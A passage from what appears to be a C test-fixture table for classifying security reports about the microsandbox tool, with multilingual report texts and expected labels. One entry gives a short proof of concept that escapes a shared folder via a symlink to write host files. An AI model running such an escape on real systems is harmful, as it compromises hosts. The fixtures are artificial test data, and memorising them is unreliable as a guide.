	  "Notre serveur msb auto-h\xc3\xa9" "berg\xc3\xa9 sert plusieurs clients, un namespace chacun. Avec la cl\xc3\xa9 API\n"
	  "du namespace client-a, GET /v1/namespaces/client-b/sandboxes renvoie les sandboxes et les\n"
	  "journaux du client-b : un contournement de l'autorisation, l'API ne v\xc3\xa9rifie pas le namespace\n"
	  "de la cl\xc3\xa9.", "control_plane_auth", "core" },
	{ "microsandbox cloud: missing authorization check on namespace keys",
	  "In microsandbox cloud a key scoped to one namespace of our org lists the sandboxes of other\n"
	  "customers' orgs: the multi-tenant control plane does not filter the namespace by org.",
	  "control_plane_auth", "cloud" },
	{ "Cloud console deletes keys of other orgs",
	  "Unlike msb server, the microsandbox cloud console lets any member of one org delete the API\n"
	  "keys of another org: DELETE https://api.microsandbox.dev/v1/orgs/acme/keys/k1 answers 204\n"
	  "for a key that belongs to a different customer.", "control_plane_auth", "cloud" },
	{ "Python SDK sends the key to another tenant's server",
	  "The Python SDK keeps one session per process and reuses the first tenant's API key when our\n"
	  "service connects to a second msb server, so the second customer acts with the first one's key\n"
	  "in their namespace.", "isolation_bypass", "python_sdk" },
	/* an updater that installs what it downloaded though the signature or
	 * checksum was missing is a supply-chain flaw (1399); one that refuses
	 * is none */
	{ "Updater ignores a missing checksum file",
	  "When I block the SHA256SUMS download, msb upgrade prints a warning and replaces the "
	  "binary regardless, so whoever controls the mirror ships their own build to every user.",
	  "supply_chain", "release_infra" },
	{ "msb update : signature absente",
	  "Si le fichier de signature est absent, msb update installe quand même l'archive "
	  "téléchargée ; un miroir hostile peut donc livrer n'importe quel binaire.",
	  "supply_chain", "core" },
	{ "Question about the updater",
	  "When the signature is missing (404), msb update refuses to install, prints an error "
	  "and exits. Is that the intended behaviour?",
	  NULL, "core" },
	/* a token or session id made with a non-cryptographic generator is an
	 * authentication flaw, not a leak (1404); Math.random() for a name
	 * suffix is none */
	{ "Self-hosted server session ids come from the clock",
	  "The server's session ids are derived from the current timestamp in milliseconds, so "
	  "anyone who knows roughly when the admin logged in can guess one and use the API.",
	  "control_plane_auth", "core" },
	{ "Lokaler Daemon: vorhersagbares Token",
	  "Der lokale Daemon wird mit einem vorhersagbaren Token gestartet; ein anderer Benutzer "
	  "auf dem Rechner kann es erraten und Befehle in fremden Sandboxen ausführen.",
	  "control_plane_auth", "core" },
	{ "Sandbox name collisions",
	  "The sandbox name suffix is generated with Math.random(); two sandboxes created in the "
	  "same millisecond sometimes collide and the second create fails.",
	  NULL, "core" },
	/* guest code driving msbd's own API on the host escapes (1421); a
	 * service of the writer's on the host reached past a deny option, or
	 * "guest -> host" naming loopback traffic, is a network bypass (1435) */
	{ "Guest can drive msbd",
	  "Any process inside the guest can reach the msbd HTTP API on the host through the gateway "
	  "and create a new sandbox with the host's / mounted.",
	  "sandbox_escape", "core" },
	{ "Host services reachable despite --net-deny-private",
	  "Code in the sandbox connects to the ollama API on the host at 10.0.2.2:11434 despite "
	  "the deny rule for private ranges (--net-deny-private).",
	  "network_bypass", "core" },
	{ "guest -> host 127.0.0.1 traffic not filtered",
	  "With --net-deny-private the guest still connects to services bound to loopback on the "
	  "host; the deny rules have nothing for 127.0.0.0/8.",
	  "network_bypass", "core" },
	/* an SDK said to be where the flaw is, or to hand its own key to the
	 * sandbox, outweighs the cloud words of the key it holds (1344, 1318);
	 * a flaw said not to be in the SDK is none of its */
	{ "Certificate checks silently off for hosted API calls",
	  "Our app talks to the microsandbox cloud API for cloud sandboxes. After some digging the "
	  "root cause is in the microsandbox Python SDK: its client reuses one session with TLS "
	  "verification turned off, so anyone on the network can steal the API key from the "
	  "Authorization header.",
	  "secret_leakage", "python_sdk" },
	{ "My bot leaks my key to the code it runs",
	  "I run user code in a microsandbox cloud sandbox from a small bot using your node package. "
	  "Printing process.env inside the sandbox shows MSB_API_KEY, so I guess the SDK is copying "
	  "my api key into the sandbox environment and anyone running code there can use my account.",
	  "secret_leakage", "node_sdk" },
	{ "Cloud console shows other organisations' sandboxes",
	  "In the cloud dashboard of the microsandbox cloud I can list the sandboxes of another "
	  "organisation by changing the org id in the URL. The bug is not in the Python SDK, the "
	  "cloud API answers the same with curl; an attacker reads other customers' data.",
	  "control_plane_auth", "cloud" },
	/* (#3) a standard (non-admin) account of a shared machine reaching
	 * another account's files or root's home through the host-side tool:
	 * privilege escalation, "without a password" is no password read; a
	 * password or key that is read or logged stays a leak, a standard user
	 * interface and root's home in the guest are no escalation */
	{ "Guest account reads everything",
	  "On our lab Mac the students log in with a standard account. With msb installed by the\n"
	  "admin, a student mounted /private/var/root as a volume and listed it, and could read\n"
	  "the teacher's home too, all without a password.", "privilege_escalation", "core" },
	{ "Conta padrão lê tudo",
	  "No nosso Mac da família, o meu filho tem um usuário padrão, sem privilégios de administrador.\n"
	  "Com o msb ele monta a pasta do root e lê tudo: o serviço roda como root e obedece qualquer um.",
	  "privilege_escalation", "core" },
	/* (1499, 1500) a per-user server whose socket any local account may
	 * write (0777, srwxrwxrwx), told in the other languages: one local
	 * user drives another's msb and reaches that user's files */
	{ "Il socket del server msb",
	  "Su un server condiviso il socket /run/user/1001/msb/api.sock ha permessi 0777, quindi\n"
	  "qualsiasi utente locale crea una sandbox con la home di un collega montata.",
	  "privilege_escalation", "core" },
	{ "El socket de msb",
	  "En el servidor del laboratorio, cualquier usuario local puede hablar con el servidor msb de otro:\n"
	  "srwxrwxrwx 1 ana staff 0 /tmp/msb-502/server.sock", "privilege_escalation", "core" },
	{ "Socket do servidor",
	  "O socket do msb server fica com modo rwxrwxrwx e um usu\xc3\xa1rio local monta a pasta de outro\n"
	  "usu\xc3\xa1rio numa sandbox.", "privilege_escalation", "core" },
	/* ... not a world-writable socket inside the guest, nor a local user
	 * alone */
	{ "Agent socket in the guest",
	  "Inside the sandbox the agent socket /run/agent.sock is srwxrwxrwx, so any process in the\n"
	  "guest can send it commands.", NULL, "core" },
	{ "Utente locale",
	  "Un utente locale mi ha chiesto come installare msb senza sudo sul Mac del laboratorio.",
	  NULL, "core" },
	{ "Helper serves everyone",
	  "The msb helper daemon runs as root and mounts any host path for anyone who asks, so my\n"
	  "standard user account reads files only root can read.", "privilege_escalation", "core" },
	{ "API key in the debug log",
	  "With --debug the CLI prints the API key to the log file, and any local user can read\n"
	  "that log: our standard user accounts see the full key.", "secret_leakage", "core" },
	{ "Passwords readable",
	  "The sandbox config file keeps database passwords, and any process in the sandbox can read\n"
	  "the passwords from /run/msb/config.json.", "secret_leakage", "core" },
	{ "Root home in the guest",
	  "The python image keeps no files in root's home inside the sandbox; is that on purpose?", NULL, "core" },
	{ "Standard user interface",
	  "The standard user interface of the desktop app shows the sandbox list twice after a restart.", NULL, "core" },
	/* (#3) Windows' root is SYSTEM in capitals: gained, reached from a
	 * standard account; a service that runs as SYSTEM, or "system" in
	 * lower case, is none */
	{ "Any user gets SYSTEM via the volume API",
	  "A standard user can ask the daemon to mount C:\\Windows into a sandbox and write there,\n"
	  "which gives SYSTEM on the host.", "privilege_escalation", "core" },
	{ "Daemon runs as SYSTEM",
	  "The msbd daemon runs as a SYSTEM service on Windows; is that needed for a CLI tool?", NULL, "core" },
	{ "System prompt",
	  "Can a guest get system information about the host through the agent?", NULL, "core" },
	/* (#3) owners reaching each other's files, or the others', in Dutch,
	 * German, French, Spanish, Italian and Portuguese, and two sandboxes
	 * handed one directory: isolation.  Sandboxes slowing each other down
	 * and two sandboxes of the same image are not */
	{ "Gedeelde werkmap",
	  "Op onze cursusserver met msb kunnen cursisten via hun sandbox bij elkaars uitwerkingen en\n"
	  "kunnen ze die ook overschrijven.", "isolation_bypass", "core" },
	{ "Lange Namen",
	  "Wenn zwei Sandboxen mit langen Namen laufen, bekommen beide dasselbe Verzeichnis, und die\n"
	  "Kursteilnehmer lesen die Dateien der anderen Nutzer.", "isolation_bypass", "core" },
	{ "Noms tronqués",
	  "Avec des noms longs, deux sandbox partagent le même répertoire : chaque client lit les\n"
	  "fichiers des autres clients.", "isolation_bypass", "core" },
	{ "Nombres largos",
	  "Con nombres largos, dos sandboxes usan el mismo directorio y los alumnos ven los archivos\n"
	  "de los demás.", "isolation_bypass", "core" },
	{ "Nomes longos",
	  "Na nossa escola, os alunos conseguem abrir os arquivos uns dos outros pelo msb.", "isolation_bypass", "core" },
	{ "Trage sandboxen",
	  "Als twintig sandboxen tegelijk draaien, vertragen ze elkaars CPU en duurt alles lang.", NULL, "core" },
	{ "Slow start",
	  "Starting two sandboxes from the same image takes 20 seconds each, the second one is not faster.", NULL, "core" },
	/* (#3) what goes wrong decides over what it leads to: a clause that
	 * tells the consequence ("so anyone ... gets", "which exposes", "could
	 * lead to") counts little for the class; a key acting beyond the scope
	 * it was cut for is an authorization flaw whatever it reaches; one
	 * thing shared by owners that should be kept apart, or another owner's
	 * sandbox handed out, is isolation; a credential packed into what is
	 * published is a leak, whatever it can publish */
	{ "Workspace token honoured elsewhere",
	  "In the cloud console, a token restricted to a single workspace is honoured by the runs\n"
	  "endpoint of every other workspace in the account, which exposes the stored database\n"
	  "passwords and api keys of all of them.", "control_plane_auth", "cloud" },
	{ "One scratch volume for every customer",
	  "The runner mounts one scratch volume shared between customers, so an attacker in one job\n"
	  "can read the tokens and credentials the other jobs leave there.", "isolation_bypass", "core" },
	{ "Node SDK attach() returns someone else's VM",
	  "When two of our clients pick the same label, attach() hands back the other client's live\n"
	  "microVM and the second client runs its code there.", "isolation_bypass", "node_sdk" },
	/* (#3) one owner after another on a reused sandbox: what the previous
	 * tenant, customer or job left is there for the next; a pool alone,
	 * or the writer's own earlier version, is no isolation bypass */
	{ "Warm VMs keep the last tenant's uploads",
	  "After a job ends the runner puts the microVM back as a warm VM, and the next tenant's code\n"
	  "lists the files the previous tenant wrote to /work.", "isolation_bypass", "core" },
	{ "Python SDK SandboxPool(warm=True) ignores reset=\"full\" - next tenant gets previous tenant's sandbox",
	  "With warm=True the pool hands the used sandbox to the next customer without the reset, files\n"
	  "and processes included.", "isolation_bypass", "python_sdk" },
	/* (2977) German: the volumes of the other users of one server,
	 * mounted without an owner check, are the separation between
	 * users, not the control plane's */
	{ "msbd System-Modus: benannte Volumes anderer Benutzer einbindbar",
	  "Benutzer B startet eine Sandbox mit -v NAME:/pfad und msbd bindet ohne Eigent\xc3\xbcmerpr\xc3\xbc" "fung\n"
	  "A's Volume ein. Jeder Benutzer kann die Daten in den Volumes aller anderen Benutzer lesen und\n"
	  "ver\xc3\xa4ndern. Die Trennung zwischen den Sandboxes verschiedener Benutzer ist damit aufgehoben.",
	  "isolation_bypass", "core" },
	/* (2966) logs served across organisations by the cloud API are its
	 * authorization, though the logs hold tokens */
	{ "Logs of terminated sandboxes readable across orgs",
	  "The cloud API serves the console logs of terminated sandboxes to anyone with a valid API key,\n"
	  "from any org. The logs routinely include tokens printed by careless scripts.",
	  "control_plane_auth", "cloud" },
	{ "Cross-customer leak through recycled sandboxes",
	  "The Python SDK recycles a sandbox for the next customer without a reset, so the env vars of\n"
	  "the prior customer are still set when the new script runs.", "isolation_bypass", "python_sdk" },
	{ "Wiederverwendete Sandbox",
	  "Nach release() landet die Sandbox ohne Reset wieder im Pool; der n\xc3\xa4" "chste Job sieht die Dateien\n"
	  "des vorherigen Kunden in /tmp.", "isolation_bypass", "core" },
	{ "Sandbox reutilizado",
	  "El pool entrega el sandbox al siguiente cliente sin limpiarlo: los archivos y las variables del\n"
	  "cliente anterior siguen en /root.", "isolation_bypass", "core" },
	{ "Bac \xc3\xa0 sable recycl\xc3\xa9",
	  "La VM revient dans le pool sans remise \xc3\xa0 z\xc3\xa9ro et le job suivant lit les fichiers du client\n"
	  "pr\xc3\xa9" "c\xc3\xa9" "dent.", "isolation_bypass", "core" },
	{ "Datos del cliente antiguo",
	  "Tras actualizar, los datos del cliente anterior a la 0.9 siguen en ~/.msb y ocupan 2 GB.",
	  NULL, "core" },
	{ "Sandbox pool logs the API key",
	  "When the sandbox pool starts its warm VMs it writes our full API key into the debug log, so\n"
	  "anyone who can read the log gets it.", "secret_leakage", "core" },
	/* (#3) the release binary named by its file name (dots inside) before
	 * "built without": the release build is at fault; a sentence that ends
	 * before "built without" does not join the two */
	{ "Release binary lacks stack canaries",
	  "The msb binary in msb-0.7.2-aarch64-unknown-linux-gnu.tar.gz is built without stack canaries\n"
	  "and full RELRO; please turn them on.", NULL, "release_infra" },
	{ "Guest agent panics on a long hostname",
	  "The guest agent binary panics on a 300-byte hostname and the VM stops. I built without\n"
	  "local changes from the v0.7.2 tag and the panic is in the vsock handler.", NULL, "core" },
	{ "Upgrade keeps old files",
	  "After upgrading, the files of the previous version are still in ~/.msb and take 2 GB.",
	  NULL, "core" },
	{ "Published crate carries a registry token",
	  "The crate tarball we download from crates.io bundles a .cargo file with the registry\n"
	  "token of your release bot.", "secret_leakage", "release_infra" },
	/* ... and the mechanism still decides when it is the leak itself, or
	 * an authorization check reached through another org's id */
	{ "Debug log holds the key",
	  "The SDK writes the full API key into its debug log, so anyone who can read the log gets\n"
	  "it.", "secret_leakage", "core" },
	{ "Other orgs' sandboxes through the id",
	  "By changing the org id in the request I open another organization's sandboxes in the\n"
	  "cloud console; the API does not check that the key belongs to that org.",
	  "control_plane_auth", "cloud" },
	/* (#3) the class is the flaw's mechanism, not the keywords of what
	 * it reaches: credentials read off the wire are a secret leak however
	 * much "API key" and "Authorization" the mail says; one sandbox
	 * reaching another is isolation, whatever network it goes over; a
	 * build file handing host files to the image is an escape, whatever
	 * keys those files hold */
	{ "Node client trusts any certificate, bearer token exposed",
	  "The Node client never checks the server certificate, so someone on the same hotel network\n"
	  "can pose as our endpoint and sniff the bearer token it puts in the Authorization header.",
	  "secret_leakage", "node_sdk" },
	{ "msb CLI: api key could be intercepted",
	  "With certificate validation turned off in the CLI's HTTP client, anybody on the path can\n"
	  "intercept our credentials and then use them against the server.", "secret_leakage", "core" },
	{ "VM-to-VM traffic on one host",
	  "Two microVMs started by different users can ping and connect to each other's ports over the\n"
	  "host bridge.", "isolation_bypass", "core" },
	{ "shared /dev/shm",
	  "The isolation between our tenants' workloads is defeated by a /dev/shm that all of them\n"
	  "mount from the same host directory.", "isolation_bypass", "core" },
	{ "Build file can pull in runner files",
	  "An ADD line with an absolute path is read from the host file system, outside of the build\n"
	  "context, so a contributor's build file bakes any file of the runner into the image. On our\n"
	  "runners that gives the deploy tokens and the cloud credentials.", "sandbox_escape", "core" },
	/* ... and not: guest to host is no sandbox-to-sandbox reach, a header
	 * named beside a missing check is still an authorization bug, an
	 * interceptor in the code is no interception */
	{ "guest-to-host write through the share",
	  "A guest-to-host write through the shared folder lets code in the sandbox overwrite files on\n"
	  "the host.", "sandbox_escape", "core" },
	{ "server ignores the Authorization header",
	  "The server never looks at the Authorization header: requests without a token are accepted\n"
	  "and start sandboxes.", "control_plane_auth", "core" },
	{ "token interceptor logs the key",
	  "The SDK's request interceptor writes the full API key into the debug logs.",
	  "secret_leakage", "core" },
	/* blind round 30 (#3): the classes in plain words, from writers who do
	 * not know the policy's terms */
	{ "odd thing with the shared folder",
	  "A script I ran inside the VM wrote a file that turned up in my real home directory, and it\n"
	  "could replace my ~/.zshrc too.", "sandbox_escape", "core" },
	/* what was shared read only, in two words and named after the folder,
	 * changed from inside and gone from the writer's machine too (1316);
	 * a read-only share that refuses the change, and a file gone from the
	 * laptop with no sandbox behind it, are no escape */
	{ "shared photos folder",
	  "a process in the sandbox can remove or rename files in a directory that is mounted as read\n"
	  "only. i renamed one from inside and it was renamed on my computer too.", "sandbox_escape",
	  "core" },
	{ "read only folder works",
	  "in the read only folder i tried to delete a file from inside and got an error, so the file\n"
	  "stays on my computer.", NULL, "core" },
	{ "files missing",
	  "after the update some photos were gone on my laptop, i think the sync app deleted them.",
	  NULL, "core" },
	{ "Customer jobs see each other's cache",
	  "Files from one customer's sandbox show up in another's /var/cache: customer A can read what\n"
	  "customer B downloaded.", "isolation_bypass", "core" },
	{ "--allow-host only checks names",
	  "Outbound traffic is restricted to one host, but code that connects straight to an IP address\n"
	  "gets out to anywhere.", "network_bypass", "core" },
	{ "Node SDK leaves the key around",
	  "The API key is written to a file in /tmp that every account on the build machine can read.",
	  "secret_leakage", "node_sdk" },
	/* blind round 26 (#3): a world-readable file leaks what it holds; a
	 * world-writable one still gives a privilege */
	{ "--env values world-readable in /tmp/msb-<uid>/*.json on multi-user hosts",
	  "msb writes the launch spec of every sandbox, including the values passed with --env, to a\n"
	  "file with mode 0644. Any other local user can read another user's secrets.",
	  "secret_leakage", "core" },
	{ "msbd socket world-writable",
	  "The msbd socket is world-writable, so any local user starts a sandbox as root and gets\n"
	  "root on the host.", "privilege_escalation", "core" },
	/* blind round 11 (#3): structural forms and one more language */
	{ "Sandboxes reach each other",
	  "I put the two sandboxes on separate networks, and from one network I can curl a server in\n"
	  "the other network.", "isolation_bypass", "core" },
	{ "--net none and ipv6",
	  "With --net none the guest still talks to the host over link-local.", "network_bypass", "core" },
	{ "tar crate in the lockfile",
	  "A malicious image could write files outside the rootfs directory on the host; the archive\n"
	  "code follows symlinks.", "sandbox_escape", "core" },
	{ "netd: root for members of group msb",
	  "Any member of the msb group gets root on the host through the helper.",
	  "privilege_escalation", "core" },
	{ "Evadare din sandbox pe Windows",
	  "Codul din sandbox scrie fi\xc8\x99iere pe gazd\xc4\x83.", "sandbox_escape", "core" },
	{ "Wspólna sieć",
	  "Proces w sandbox 1 łączy się z usługą, którą sandbox 2 wystawia tylko lokalnie.",
	  "isolation_bypass", "core" },
	{ "Keys in the referrer",
	  "Anyone who can read the proxy logs gets a working API key for the account.",
	  "secret_leakage", "core" },
	/* blind round 12 (#3) */
	{ "Error messages show the key",
	  "The exception thrown on a failed request contains the full API key, and our error\n"
	  "tracker keeps every exception for a year.", "secret_leakage", "core" },
	{ "Wheel on PyPI differs from the release",
	  "The wheel on PyPI is not the binary of the GitHub release; it looks like the publishing\n"
	  "step was compromised. The bundled binary connects to an unknown server.",
	  "supply_chain", "release_infra" },
	/* the impact statement decides, in other languages too; a word in a
	 * pasted log counts less */
	{ "Probleem met gedeelde map",
	  "Een proces in de gast kan via de gedeelde map ontsnappen naar de host en daar bestanden wijzigen.",
	  "sandbox_escape", "core" },
	{ "Klucze w logach",
	  "Przy uruchomieniu z flagą --verbose klucz API wycieka do logu, który widzi każdy w zespole.",
	  "secret_leakage", "core" },
	{ "Release binaries",
	  "The release tarballs are fetched over plain http by the updater, so anyone on the path can\n"
	  "serve a backdoored msb binary.",
	  "supply_chain", "release_infra" },
	{ "Sandboxes share a cache",
	  "Sandbox A can read files sandbox B wrote to /var/cache because both share one layer.\n\n"
	  "    2026-11-02T10:00:00Z DEBUG auth: bearer token accepted for org_1\n"
	  "    2026-11-02T10:00:01Z DEBUG auth: role check passed\n",
	  "isolation_bypass", "core" },
	/* (#3) a list indented by four spaces or a tab is the writer's own
	 * steps, not pasted output; a marker line under a pasted line is the
	 * block's still */
	{ "A question about guests",
	  "Found this while testing:\n\n"
	  "    1. A process in the guest plants a symlink in the shared folder\n"
	  "    2. The host follows it out of the mount and writes files anywhere on the host\n"
	  "    3. So code in the guest escapes to the host\n",
	  "sandbox_escape", "core" },
	{ "A question about guests",
	  "Found this while testing:\n\n"
	  "\t1. A process in the guest plants a symlink in the shared folder\n"
	  "\t2. The host follows it out of the mount and writes files anywhere on the host\n"
	  "\t3. So code in the guest escapes to the host\n",
	  "sandbox_escape", "core" },
	/* (#3) one sandbox reading what another wrote is isolation_bypass
	 * even when what it reads there is a secret */
	{ "Sandboxes share a cache",
	  "Sandbox A can read files sandbox B wrote to /var/cache because both share one layer.\n\n"
	  "    - api key leaked to the guest: sk-live-12345\n"
	  "    - secret token exposed in environment\n",
	  "isolation_bypass", "core" },
	{ "Sandboxes share a cache",
	  "Sandbox A can read files sandbox B wrote to /var/cache because both share one layer.\n\n"
	  "    $ msb logs other\n"
	  "    - api key leaked to the guest: sk-live-12345\n"
	  "    - secret token exposed in environment\n",
	  "isolation_bypass", "core" },
	{ "Guest can overwrite host files through the shared folder",
	  "A process in the VM creates a symlink in the mounted directory; the host side follows it\n"
	  "and writes outside the share, e.g. to ~/.ssh/authorized_keys.",
	  "sandbox_escape", "core" },
	{ "VM breakout via crafted virtqueue descriptors",
	  "The VMM trusts the descriptor length, so the guest gets code execution on the host.",
	  "sandbox_escape", "core" },
	{ "Tenant data visible across sandboxes",
	  "Sandbox B can read files that sandbox A wrote because both use the same image layer\n"
	  "from the shared cache; cross-tenant read of source code.",
	  "isolation_bypass", "core" },
	{ "Outbound traffic allowed despite deny-all network policy",
	  "With --net-default deny a guest can still reach any address over UDP port 53.",
	  "network_bypass", "core" },
	{ "Local users can become root through the msb helper",
	  "The helper binary is setuid root and trusts MSB_HOME, so an unprivileged user gets a root shell.",
	  "privilege_escalation", "core" },
	{ "API token printed in plain text in SDK error messages",
	  "When a sandbox fails to start, the exception includes the secret values bound to it.\n"
	  "from microsandbox import Sandbox; await Sandbox.create(...) raises with the token inside.",
	  "secret_leakage", "python_sdk" },
	{ "Restoring a checkpoint exposes the previous tenant's files",
	  "After restoring from a snapshot the upper disk still has stale blocks written by the\n"
	  "earlier sandbox.",
	  "snapshot_leak", "core" },
	{ "Deleted API keys still authenticate against the cloud API",
	  "In the dashboard we revoked a key, but the control plane accepted it for hours.",
	  "control_plane_auth", "cloud" },
	{ "Typosquatted crate pulled in by build.rs ends up in the release artifacts",
	  "The release workflow on GitHub Actions builds with a dependency whose name is one letter\n"
	  "off; this is a supply-chain risk for every user of the binaries.",
	  "supply_chain", "release_infra" },
	{ "Secret placeholder ignored by the Node SDK builder",
	  "import { Sandbox } from \"microsandbox\"; the guest environment receives the real secret value.",
	  "secret_leakage", "node_sdk" },
	{ "[SECURITY] msb exec allows escaping to host via /proc/self/exe overwrite",
	  "Overwriting /proc/self/exe from a guest process replaces the msb binary on the host.\n"
	  "Impact: full host compromise next time msb runs.", "sandbox_escape", "core" },
	{ "Security issue in microsandbox",
	  "The agent inside the VM can send a crafted message that makes the host process execute\n"
	  "arbitrary commands, so code in the sandbox can run commands on my machine as my user.",
	  "sandbox_escape", "core" },
	{ "Faille de sécurité",
	  "Un processus dans le sandbox peut lire les fichiers de l'hôte via un lien symbolique\n"
	  "dans le répertoire partagé. C'est une évasion du sandbox.", "sandbox_escape", "core" },
	{ "shared memory between VMs",
	  "The second sandbox can read pages of memory that belonged to the first one because the\n"
	  "balloon returns pages without zeroing. Another tenant's data is visible.",
	  "isolation_bypass", "core" },
	{ "Session not invalidated after logout",
	  "After logging out of the microsandbox cloud dashboard the session cookie stays valid.",
	  "control_plane_auth", "cloud" },
	{ "Exposed admin endpoint on the self-hosted server",
	  "The microsandbox server exposes /admin/shutdown without any authentication on port 5555.",
	  "control_plane_auth", "core" },
	{ "API key visible in process list",
	  "The CLI passes MSB_API_KEY on the command line of the child process, so any user on the\n"
	  "machine can read it with ps aux.", "secret_leakage", "core" },
	{ "Python SDK: TLS verification disabled",
	  "The Python SDK talks to the API with verify=False, so a MITM can steal the API key.",
	  "secret_leakage", "python_sdk" },
	{ "Snapshot includes host environment",
	  "A snapshot file of a running sandbox contains the host environment, injected secrets included.",
	  "snapshot_leak", "core" },
	{ "Unsigned release binaries downloaded over HTTP",
	  "The install script fetches the msb tarball over plain HTTP and verifies no checksum or\n"
	  "signature, so a network attacker can swap the binary.", "supply_chain", "release_infra" },
	{ "Python SDK: sandboxes of different users share the same VM",
	  "from microsandbox import Sandbox\nTwo processes creating a sandbox with the same name attach\n"
	  "to one VM; that breaks isolation between users on a shared host.",
	  "isolation_bypass", "python_sdk" },
	{ "Node SDK ignores network policy for exec streams",
	  "With microsandbox@0.6.14 from npm, sandboxes with default deny still reach the internet\n"
	  "through sb.execStream(); the egress rules are not applied to the stream.",
	  "network_bypass", "node_sdk" },
	{ "Heap overflow in the virtio-net device",
	  "A malicious guest overflows a fixed buffer in the VMM; likely code execution in the host\n"
	  "msb process.", "sandbox_escape", "core" },
	{ "sandbox can see host processes",
	  "ps aux inside the sandbox lists them and I can kill them.", "sandbox_escape", "core" },
	{ "World-readable snapshot files",
	  "Snapshots are created with mode 0644, so other local users can read my sandboxes' disks.",
	  "snapshot_leak", "core" },
	{ "Cloud: secrets of other organizations visible in sandbox logs",
	  "In microsandbox cloud the dashboard's log view shows secret values bound by other\n"
	  "organizations when a sandbox id is reused.", "secret_leakage", "cloud" },
	{ "TIOCSTI injection from msb exec -t",
	  "A guest process pushes characters into the host terminal's input queue.", "sandbox_escape", "core" },
	{ "Shared folder permits writing outside the mapped directory",
	  "A symlink created in the guest makes the host write outside the mapped directory.",
	  "sandbox_escape", "core" },
	{ "slirp network mode exposes host loopback",
	  "The guest reaches services bound to localhost on the host despite the policy.",
	  "network_bypass", "core" },
	{ "Image registry allows pushing to the official namespace",
	  "Anyone can push images there, so msb pull may fetch an attacker's image.",
	  "supply_chain", "release_infra" },
	/* (1646) the host's clipboard read from the guest, told in words in
	 * any of the languages or shown as a clipboard tool run in the guest
	 * beside the sandbox's clipboard option; the word alone, docs read
	 * about it, or a clipboard written from the guest, is none */
	{ "Desktop sandbox and the clipboard",
	  "With clipboard sharing on, any process in the guest can read the host clipboard whenever it\n"
	  "likes, so every password I copy in my password manager ends up in the VM.",
	  "secret_leakage", "core" },
	{ "Zwischenablage",
	  "Ein Skript im Gast liest die Zwischenablage des Hosts alle zwei Sekunden aus, auch\n"
	  "kopierte Passw\xc3\xb6rter.", "secret_leakage", "core" },
	{ "Presse-papiers partag\xc3\xa9",
	  "Un programme dans l'invit\xc3\xa9 lit le presse-papiers de l'h\xc3\xb4te en continu.",
	  "secret_leakage", "core" },
	{ "x11 desktop image",
	  "Started with --clipboard, as below.\n\n"
	  "    guest$ xclip -selection clipboard -o\n    hunter2-copied-on-my-mac\n",
	  "secret_leakage", "core" },
	{ "Clipboard sharing question",
	  "I read the docs about clipboard sharing and turned it on for my desktop sandbox; the\n"
	  "copy button in the toolbar stays grey.", NULL, "core" },
	{ "Escape sequences in msb logs",
	  "A guest can print OSC 52 sequences that set the clipboard of the terminal msb logs runs in.",
	  NULL, "core" },
	/* (1324) the host's memory corrupted or read from the guest, told in
	 * German, French, Spanish or Dutch: a guest reaching the host's memory,
	 * as "memory on the host" in English; memory the guest only fills, or
	 * the guest's own memory, is none */
	{ "Frage zum vsock-Parser",
	  "Wenn der Gast eine Nachricht mit L\xc3\xa4nge 2 schickt, rechnet der Parser 2 - 8 und k\xc3\xb6nnte\n"
	  "so den Host-Speicher \xc3\xbc" "berschreiben. Ausprobiert habe ich das nicht.",
	  "sandbox_escape", "core" },
	{ "Lecture hors limites dans le d\xc3\xa9" "codeur",
	  "Un agent modifi\xc3\xa9 dans la VM peut lire la m\xc3\xa9moire de l'h\xc3\xb4te au-del\xc3\xa0 du tampon.",
	  "sandbox_escape", "core" },
	{ "Posible fallo en el analizador de tramas",
	  "Con una longitud falsa, un proceso dentro de la VM podr\xc3\xad" "a corromper la memoria del host.",
	  "sandbox_escape", "core" },
	{ "Geheugenfout in de parser",
	  "Een programma in de VM kan het geheugen van de host beschadigen met een te korte lengte.",
	  "sandbox_escape", "core" },
	{ "Speicherverbrauch",
	  "Ein Programm im Gast belegt nach einer Stunde den ganzen Speicher auf dem Host und wird\n"
	  "dann langsam.", NULL, "core" },
	{ "Absturz im Gast",
	  "Mit einer zu kurzen L\xc3\xa4nge kann ein Programm den Speicher im Gast besch\xc3\xa4" "digen,\n"
	  "der Host bleibt davon unber\xc3\xbchrt.", NULL, "core" },
	/* other languages, held-out styles (#3) */
	{ "Sicherheitsl\xc3\xbc" "cke im Dateisystem-Broker",
	  "Ein Angreifer im Gast kann beliebige Dateien auf dem Host lesen (Ausbruch aus der Sandbox,\n"
	  "Gast -> Host).", "sandbox_escape", "core" },
	{ "Vulnerabilidad en vol\xc3\xba" "menes",
	  "Una vulnerabilidad de aislamiento entre sandboxes: un namespace monta el volumen de otro.",
	  "isolation_bypass", "core" },
	{ "Possible cross-sandbox side channel through snapshot deduplication",
	  "A malicious sandbox could confirm guesses about another sandbox's data.",
	  "snapshot_leak", "core" },
	{ "msb writes API tokens to world-readable logs",
	  "Any other local user can read the log files and steal the API keys.",
	  "secret_leakage", "core" },
	{ "Guest root writes to /proc/sys of the host",
	  "Writing core_pattern in the guest changes the host kernel setting, giving code execution on\n"
	  "the host on the next crash.", "sandbox_escape", "core" },
	{ "Guest root can open host devices",
	  "Root in the guest can open /dev/kvm and /dev/mem of the host through the passthrough.",
	  "sandbox_escape", "core" },
	/* another sandbox as the object of the attack, or its possession */
	{ "Shared agent sockets",
	  "A process in sandbox one can execute code in another sandbox through the agent socket.",
	  "isolation_bypass", "core" },
	{ "Egress rules of other sandboxes",
	  "With the leaked capability the guest can flush other sandboxes' egress rules.",
	  "network_bypass", "core" },
	/* near misses */
	{ "virtiofs is slow on macOS",
	  "Copying 1 GB into a mounted directory takes a minute; is that expected?", NULL, "core" },
	{ "How do I mount a host directory into the guest?",
	  "Hi, I want to share a folder with the VM, what is the flag?", NULL, "core" },
	{ "Guest can fill the host terminal scrollback",
	  "This is not a sandbox escape; the guest cannot break out, it only floods the terminal with\n"
	  "output.", NULL, "core" },
	{ "Integer underflow in frame decoder",
	  "In a release build without overflow checks the length wraps. Guest agentd sends the frame.",
	  NULL, "core" },
	{ "Guest can write host files",
	  "PoC:\nfrom microsandbox import Sandbox\nsb = await Sandbox.create('x', volumes=['/tmp/s:/s'])\n"
	  "await sb.exec('ln -s / /s/root && echo x > /s/root/etc/evil')\n"
	  "The file /etc/evil appears on the host, outside the share.", "sandbox_escape", "core" },
	/* a cloud API key kept by the CLI is a credential, not the cloud */
	{ "Credentials file readable by everyone",
	  "The msb CLI stores the cloud API key in ~/.microsandbox/credentials.toml with mode 0644, so\n"
